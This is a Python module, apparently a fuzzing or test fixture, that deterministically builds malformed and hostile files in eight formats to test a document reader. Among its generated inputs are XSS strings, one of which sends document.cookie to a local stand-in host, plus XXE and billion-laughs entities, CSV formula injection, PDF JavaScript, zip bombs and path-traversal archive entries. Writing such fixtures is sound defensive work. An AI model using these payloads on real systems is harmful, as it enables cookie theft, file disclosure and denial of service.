"""Hostile files of every form that is read, each told by its number alone: the same bytes on every machine."""

from __future__ import annotations

import csv
import gzip
import io
import json
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from random import Random

from hostile.texts import SHAPES, text_of

LONGEST = 3_000
"""Characters of an ordinary hostile text; every fiftieth has up to ten times as many."""

_ENCODINGS = ("utf-8",) * 6 + ("utf-8-sig", "utf-16", "utf-16-le", "utf-32", "cp1251", "koi8_r", "cp866", "latin-1")


@dataclass(frozen=True, slots=True)
class File:
    """A file as found in a folder; `told` says how it was made."""

    number: int
    name: str
    data: bytes
    told: str


def hostile_file(number: int, longest: int = LONGEST) -> File:
    """`0`, `1`, `2` … → a file each, two thirds of them plain text."""
    random = Random(f"file {number}")
    form = random.choice(_FORMS)
    size = int(10 * (longest / 10) ** random.random())
    size *= 10 if random.random() < 0.02 else 1
    shape = random.choice(list(SHAPES))
    data = _MAKERS[form](random, text_of(shape, size, number))
    if random.random() < 0.25:
        data = _damaged(random, data)
    suffix = random.choice(list(_MAKERS)) if random.random() < 0.03 else form
    return File(number, f"{number}.{suffix}", data, f"{form}, {shape}, {size} characters")


def _damaged(random: Random, data: bytes) -> bytes:
    """Bytes flipped, cut out, doubled, made NUL, or the end missing."""
    damaged = bytearray(data)
    for _ in range(random.choice((1, 1, 3, 20))):
        at = random.randrange(len(damaged) + 1)
        piece = damaged[at : at + random.randrange(1, 50)]
        kind = random.randrange(5)
        if kind == 0 and piece:
            damaged[at] ^= 1 << random.randrange(8)
        elif kind == 1:
            damaged[at : at + len(piece)] = b""
        elif kind == 2:
            damaged[at:at] = piece * 3
        elif kind == 3:
            damaged[at:at] = b"\0"
        elif random.random() < 0.2:
            del damaged[at:]
    return bytes(damaged)


# --- text ---------------------------------------------------------------------------------------------------------


def _txt(random: Random, text: str) -> bytes:
    if random.random() < 0.05:
        return random.randbytes(len(text))
    encoding = random.choice(_ENCODINGS)
    if encoding.startswith("utf"):
        return text.encode(encoding, "surrogatepass")
    return text.encode(encoding, "replace")


# --- pages --------------------------------------------------------------------------------------------------------

_SCRIPTS = (
    "<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>",
    "<script src='http://127.0.0.1:9/a.js'></script>",
    "<img src=x onerror='alert(1)'>",
    "<iframe src='file:///etc/passwd'></iframe>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>",
    "<link rel=stylesheet href='http://127.0.0.1:9/a.css'>",
    "<object data='http://127.0.0.1:9/'></object>",
    "<!-- <p>",
    "<![CDATA[",
    "<style>@import 'http://127.0.0.1:9/'</style>",
    "<base href='javascript:alert(1)'>",
    "<svg><script>alert(1)</script></svg>",
    "<?php system('id'); ?>",
    "<meta charset=utf-7>",
    "<meta property='article:published_time' content='99999-99-99T99:99'>",
    "<script type='application/ld+json'>{\"@type\":[[[[\"NewsArticle\"]]]],\"datePublished\":{}}</script>",
    "<title>" + "A" * 500,
)
_TAGS = ("div", "p", "table", "tr", "td", "ul", "li", "a", "b", "font", "blockquote", "article", "q", "svg")


def _html(random: Random, text: str) -> bytes:
    """Paragraphs among scripts, in tags up to 3,000 deep that are often not closed."""
    deep = random.choice((0, 0, 5, 300, 3_000))
    tag = random.choice(_TAGS)
    pieces = text.split("\n") if random.random() < 0.5 else [text]
    body = "".join(
        f"{random.choice(_SCRIPTS) if random.random() < 0.3 else ''}<p>{piece}</p>" for piece in pieces[:200]
    )
    closed = f"</{tag}>" * deep if random.random() < 0.5 else ""
    head = f"<!DOCTYPE html><html><head><title>Visit</title>{random.choice(_SCRIPTS)}</head><body>"
    return (head + f"<{tag}>" * deep + body + closed + "</body></html>").encode("utf-8", "surrogatepass")


# --- tables -------------------------------------------------------------------------------------------------------


def _jsonl(random: Random, text: str) -> bytes:
    rows = [random.choice(_ROWS)(random, text) for _ in range(random.randrange(1, 5))]
    return "\n".join(rows).encode("utf-8", "surrogatepass")


_ROWS: tuple[Callable[[Random, str], str], ...] = (
    lambda r, t: json.dumps({"text": t, "id": r.choice(("a", "../../etc/passwd", "", "\0", "a" * 5_000, "=1+1"))}),
    lambda r, t: json.dumps({"text": t, "published": r.choice(("2018-08-21", "x", "9999-99-99", "", "-1"))}),
    lambda r, t: json.dumps({"text": t, "title": [1], "published": 5, "url": {}, "source": None}),
    lambda r, t: json.dumps({"text": r.choice(([], {}, 1, None, True, "\ud800", ""))}),
    lambda r, t: json.dumps({"body": t}),
    lambda r, t: json.dumps(t),
    lambda r, t: '{"text": "\\ud83d\\ud83d\\u0000 A delegation visited Dubna."}',
    lambda r, t: '{"text": NaN, "id": Infinity, "n": ' + "1" * 5_000 + "}",
    lambda r, t: '{"a":' * 3_000 + "1" + "}" * 3_000,
    lambda r, t: "[" * 100_000,
    lambda r, t: '{"text": "a", "text": "b"',
    lambda r, t: "\ufeff" + json.dumps({"text": t}),
)


def _csv(random: Random, text: str) -> bytes:
    out = io.StringIO()
    rows = csv.writer(out, delimiter=random.choice(",,;\t"))
    rows.writerow(random.choice((["text", "id"], ["id", "text", "title"], ["text"] * 3, ["a"] * 300, [], ["text"])))
    for _ in range(random.randrange(1, 4)):
        rows.writerow([text.replace("\0", ""), random.choice(("=cmd|'/c calc'!A0", "+1", "@A1", "", "x" * 20_000))])
    spoilt = out.getvalue() + random.choice(("", '"', '"a""', ",,,,,,\n", "\0", "\r\r\n"))
    return spoilt.encode(random.choice(("utf-8", "utf-8-sig", "utf-16")), "surrogatepass")


# --- documents ----------------------------------------------------------------------------------------------------


_FILTERS = (b"/FlateDecode", b"[/FlateDecode /LZWDecode]")


def _pdf(random: Random, text: str) -> bytes:
    """One page of text among objects that refer to themselves, call scripts or unpack without end."""
    shown = text[:2_000].encode("latin-1", "replace").replace(b"\\", b"").replace(b"(", b"").replace(b")", b"")
    content = b"BT /F1 12 Tf 72 720 Td (" + shown + b") Tj ET" * random.choice((1, 1, 200))
    stream = zlib.compress(content)
    if random.random() < 0.1:
        stream = zlib.compress(b"q " * 5_000_000)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        random.choice((b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Pages /Kids [2 0 R] /Count 99 >>")),
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (len(stream), random.choice(_FILTERS), stream),
        random.choice((b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", b"5 0 R", b"<< /ToUnicode 4 0 R >>")),
    ]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    extra = random.choice((b"", b"/Prev %d" % start, b"/Encrypt 1 0 R"))
    trailer = random.choice((b"/Root 1 0 R", b"/Root 9 0 R")) + extra
    return bytes(out) + b"trailer << /Size 6 %s >>\nstartxref\n%d\n%%%%EOF" % (trailer, start)


_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_LAUGHS = (
    "<!DOCTYPE w [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    + "<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
)


def _docx(random: Random, text: str) -> bytes:
    safe = "".join(c if c.isprintable() else " " for c in text).replace("&", "&amp;").replace("<", "&lt;")
    safe = safe.encode("utf-8", "replace").decode()
    deep = random.choice((0, 0, 0, 1_000))
    entity = random.choice(("", "", "&a9;", "&x;"))
    body = "<w:tbl>" * deep + f"<w:p><w:r><w:t>{safe}{entity}</w:t></w:r></w:p>" + "</w:tbl>" * deep
    document = f'<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", (_LAUGHS if entity else "") + document)
        archive.writestr("word/vbaProject.bin", b"Sub AutoOpen()")
        if random.random() < 0.2:
            archive.writestr("../../evil.txt", "A visit.")
        if random.random() < 0.2:
            archive.writestr("docProps/core.xml", "<" * 1_000)
    return out.getvalue()


# --- archives -----------------------------------------------------------------------------------------------------

_PATHS = (
    "a.txt", "news/b.txt", "../../evil.txt", "/tmp/evil.txt", "C:\\evil.txt", "..\\evil.txt", "a\0b.txt", "a.html", "",
    "x" * 300 + ".txt", "con.txt", "a/../../b.txt", "а\u202etxt.exe", ".hidden.txt", "a.jsonl", "nested.zip", "a.pdf",
)  # fmt: skip
_BOMB = 3_000_000  # bytes, of which a thousandth is stored


def _zip(random: Random, text: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", random.choice((zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED))) as archive:
        for _ in range(random.randrange(5)):
            member = zipfile.ZipInfo(random.choice(_PATHS) or "x")
            if random.random() < 0.1:
                member.external_attr = 0o120777 << 16  # a link
            archive.writestr(member, _member(random, text), zipfile.ZIP_DEFLATED)
    data = out.getvalue()
    if random.random() < 0.1:  # said to be encrypted
        for head in (b"PK\x03\x04\x14\0", b"PK\x01\x02\x14\x03\x14\0"):
            data = data.replace(head + b"\0", head + b"\1")
    return data


def _member(random: Random, text: str) -> bytes:
    kind = random.random()
    if kind < 0.1:
        return b"A visit. " * (_BOMB // 9)
    if kind < 0.2:
        return _zip(random, text)
    return text.encode("utf-8", "surrogatepass")


_TYPES = (tarfile.REGTYPE,) * 6 + (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.DIRTYPE)


def _tar(random: Random, text: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for _ in range(random.randrange(5)):
            member = tarfile.TarInfo(random.choice(_PATHS).replace("\0", ""))
            data = _member(random, text)
            member.size = len(data)
            member.type = random.choice(_TYPES)
            member.linkname = random.choice(("/etc/passwd", "../../a", "a.txt"))
            member.mode = 0o7777
            archive.addfile(member, io.BytesIO(data) if member.isreg() else None)
    return gzip.compress(out.getvalue(), mtime=0)


_MAKERS: dict[str, Callable[[Random, str], bytes]] = {
    "txt": _txt,
    "html": _html,
    "jsonl": _jsonl,
    "csv": _csv,
    "pdf": _pdf,
    "docx": _docx,
    "zip": _zip,
    "tar.gz": _tar,
}
_FORMS = ("txt",) * 12 + ("html",) * 2 + ("jsonl", "csv", "pdf", "docx", "zip", "tar.gz")
